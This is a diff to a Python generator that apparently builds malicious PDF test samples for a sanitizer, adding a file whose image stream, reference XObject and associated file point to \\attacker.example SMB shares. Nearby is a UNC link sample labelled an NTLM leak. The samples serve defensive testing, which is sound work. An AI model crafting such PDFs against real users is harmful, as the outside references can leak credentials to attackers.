@@ -229,6 +229,20 @@ def pdf_files(out: Path) -> list[Sample]:
     link_with(Dictionary(S=Name.URI, U=Name.S, URI=String("\\\\attacker.example\\share\\payload.pdf")),
               "uri_fake_type.pdf", "pdf.uri", "UNC link behind a fake '/S' before the /URI key (NTLM leak)")
 
+    # ---- references to outside files (no action needed: a reader may fetch them on display) ----
+    pdf = _base()
+    img = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
+                          ColorSpace=Name.DeviceGray, BitsPerComponent=8, F=String("\\\\attacker.example\\s\\a.bin"))
+    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10],
+                           Ref=Dictionary(F=Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\s\\b.pdf")),
+                                          Page=0))
+    pdf.pages[0].Resources.XObject = Dictionary(Im9=img, Fx9=form)
+    pdf.pages[0].contents_add(pdf.make_stream(b"q 10 0 0 10 0 0 cm /Im9 Do /Fx9 Do Q"))
+    pdf.pages[0].obj.AF = Array([Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\s\\c.exe"),
+                                            AFRelationship=Name.Data)])
+    put(h / "outside_files.pdf", _save(pdf), "sanitized", ["pdf.external_ref"],
+        "external stream, reference XObject and associated file on an SMB share")
+
     # ---- media ----
     pdf = _base()
     _annot(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([
